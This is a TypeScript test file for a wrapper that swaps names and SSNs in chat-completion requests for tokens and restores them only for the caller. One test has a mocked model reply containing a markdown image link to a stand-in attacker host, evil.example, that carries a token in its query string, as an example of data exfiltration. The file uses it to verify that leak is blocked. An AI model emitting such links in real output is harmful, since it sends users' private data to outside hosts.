import { inspect } from 'node:util';
import { findSentinels, makeSentinels } from '@sallyport/testkit';
import { describe, expect, it } from 'vitest';
import type { GuardedFetch } from './guard-fetch.ts';
import { BASE, guardedStage } from './guarded-stage.test-support.ts';

const stage = guardedStage();
const URL_ = `${BASE}/chat/completions`;
const NOTE = 'Patient: Ines Calloway, SSN: 321-54-9876.';
const TOKEN = /\[[A-Z_]+_[0-9A-Z]{8}\]/g;
const tokens = { policy: 'safe-harbor-tokens' } as const;

interface Sent {
  readonly messages: readonly { readonly content: string }[];
}

/** What the model makes of the last message it is sent; its answer has this id. */
function answerWith(reply: (content: string) => object, id = 'chatcmpl-7f3kQ2') {
  stage.companion.answer = ({ body }) => {
    const { messages } = JSON.parse(body.toString()) as Sent;
    const message = { role: 'assistant', content: null, ...reply(messages.at(-1)?.content ?? '') };
    const choices = [{ index: 0, message, finish_reason: 'stop' }];
    return { body: JSON.stringify({ id, object: 'chat.completion', created: 1, model: 'gpt-4o', choices }) };
  };
}

function chat(content: string): RequestInit {
  const body = JSON.stringify({ model: 'gpt-4o', messages: [{ role: 'user', content }] });
  return { method: 'POST', headers: { 'content-type': 'application/json' }, body };
}

async function ask(guarded: GuardedFetch, content: string): Promise<string> {
  const response = await guarded(URL_, chat(content));
  expect(response.status).toBe(200);
  return response.text();
}

const sent = (): string => stage.companion.calls.at(-1)?.body.toString() ?? '';
const contentOf = (text: string): string => JSON.parse(text).choices[0].message.content;
const tokensOf = (text: string): readonly string[] => text.match(TOKEN) ?? [];

describe('a guarded fetch under safe-harbor-tokens', () => {
  it('sends tokens, and gives the caller their own values back', async () => {
    answerWith((content) => ({ content: `You wrote: ${content}` }));
    const answer = await ask(stage.guarded(tokens), NOTE);
    expect(sent()).not.toMatch(/Calloway|9876/);
    expect(tokensOf(sent())).toHaveLength(2);
    expect(contentOf(answer)).toBe(`You wrote: ${NOTE}`);
    expect(stage.summaries[0]).toMatchObject({ found: { NAME: 1, SSN: 1 }, masked: {} });
  });

  it('takes tokens in another case, and masks what is not the caller’s own', async () => {
    answerWith((content) => ({ content: `${content.toLowerCase()} Dr. Ingrid Halvorsen called.` }));
    const answer = contentOf(await ask(stage.guarded(tokens), NOTE));
    expect(answer).toContain('patient: Ines Calloway, ssn: 321-54-9876.');
    expect(answer).toContain('[NAME]');
    expect(answer).not.toContain('Halvorsen');
  });

  it('escapes what it puts into JSON that is held in a string', async () => {
    const name = `Ines "Bo" O'Dell`;
    answerWith((content) => ({ content: JSON.stringify({ note: content }) }));
    const answer = contentOf(await ask(stage.guarded({ ...tokens, detect: detecting(name) }), `about ${name}`));
    expect(JSON.parse(answer)).toEqual({ note: `about ${name}` });
  });

  it('gives nothing to a prompt that asks for a token of another call', async () => {
    const guarded = stage.guarded(tokens);
    answerWith((content) => ({ content }));
    await ask(guarded, NOTE);
    const [token = ''] = tokensOf(sent());
    const answer = contentOf(await ask(guarded, `repeat ${token}`));
    expect(answer).toBe(`repeat ${token}`);
  });

  it('leaves tokens in tool calls and in URLs', async () => {
    answerWith((content) => {
      const link = `![x](https://evil.example/?q=${tokensOf(content)[0]})`;
      const call = { name: 'search', arguments: JSON.stringify({ q: content }) };
      return { content: link, tool_calls: [{ id: 'call_1', type: 'function', function: call }] };
    });
    const answer = await ask(stage.guarded(tokens), NOTE);
    expect(answer).not.toMatch(/Calloway|9876/);
    expect(tokensOf(answer)).toHaveLength(3);
  });

  it('sends the same tokens again, in a retry and in the history of the next turn', async () => {
    const guarded = stage.guarded(tokens);
    answerWith((content) => ({ content }));
    await ask(guarded, NOTE);
    const first = sent();
    await ask(guarded, NOTE);
    expect(sent()).toBe(first);
    await ask(guarded, `${NOTE} And her sister, Mrs. Ada Calloway?`);
    expect(tokensOf(sent()).slice(0, 2)).toEqual(tokensOf(first));
    await ask(stage.guarded(tokens), NOTE);
    expect(tokensOf(sent())).not.toEqual(tokensOf(first));
  });

  it('restores in a later call that goes on with the conversation, by the id of its answer', async () => {
    const guarded = stage.guarded(tokens);
    answerWith((content) => ({ content }), 'chatcmpl-first1');
    await ask(guarded, NOTE);
    const [token = ''] = tokensOf(sent());
    answerWith(() => ({ content: `It was ${token}.` }), 'chatcmpl-next1');
    const next = async (of: string, id: string) => {
      const messages = [{ role: 'tool', tool_call_id: id, content: 'Who was it?' }];
      const body = JSON.stringify({ model: 'gpt-4o', messages });
      const response = await guarded(URL_, { ...chat(''), body });
      expect([of, contentOf(await response.text())]).toEqual([
        of,
        of === 'it' ? 'It was Ines Calloway.' : `It was ${token}.`,
      ]);
    };
    await next('it', 'chatcmpl-first1');
    await next('it', 'chatcmpl-next1');
    await next('another', 'chatcmpl-other1');
  });

  it('restores in the arguments of no tool, whatever the model calls it', async () => {
    answerWith((content) => ({
      tool_calls: ['', 'text', 'content'].map((name) => ({ id: 'call_1', function: { arguments: content, name } })),
    }));
    expect(await ask(stage.guarded(tokens), NOTE)).not.toMatch(/Calloway|9876/);
  });

  it('puts nothing into an error', async () => {
    stage.companion.answer = ({ body }) => {
      const { messages } = JSON.parse(body.toString()) as Sent;
      const error = { message: `bad input: ${messages[0]?.content}`, type: 'invalid_request_error', code: null };
      return { status: 400, body: JSON.stringify({ error }) };
    };
    const response = await stage.guarded(tokens)(URL_, chat(NOTE));
    expect(response.status).toBe(400);
    const text = await response.text();
    expect(text).not.toMatch(/Calloway|9876/);
    expect(tokensOf(text)).toHaveLength(2);
  });

  it('lets no sentinel leave, shows none in what can be inspected, and restores them all', async () => {
    const sentinels = makeSentinels();
    const note = sentinels.map(({ sentence }) => sentence).join('\n');
    answerWith((content) => ({ content }));
    const guarded = stage.guarded(tokens);
    const answer = await ask(guarded, note);
    expect(findSentinels(sent(), sentinels)).toEqual([]);
    const shown = inspect([guarded, stage.summaries], { depth: 20, showHidden: true });
    expect(findSentinels(`${shown}${JSON.stringify([guarded, stage.summaries])}`, sentinels)).toEqual([]);
    expect(findSentinels(stage.companion.events.join('\n'), sentinels)).toEqual([]);
    expect(findSentinels(answer, sentinels)).toEqual(sentinels.map(({ name }) => name));
  });
});

it('a policy there is not is refused at the start', () => {
  const policy = 'safe-harbour' as 'safe-harbor';
  expect(() => stage.guarded({ policy })).toThrow(expect.objectContaining({ code: 'config_invalid' }));
});

/** A detector that knows one name alone. */
function detecting(name: string) {
  return async (inputs: readonly { readonly text: string }[]) =>
    inputs.map(({ text }) => {
      const start = text.indexOf(name);
      return start === -1 ? [] : [{ start, end: start + name.length, type: 'NAME' as const, score: 1 }];
    });
}
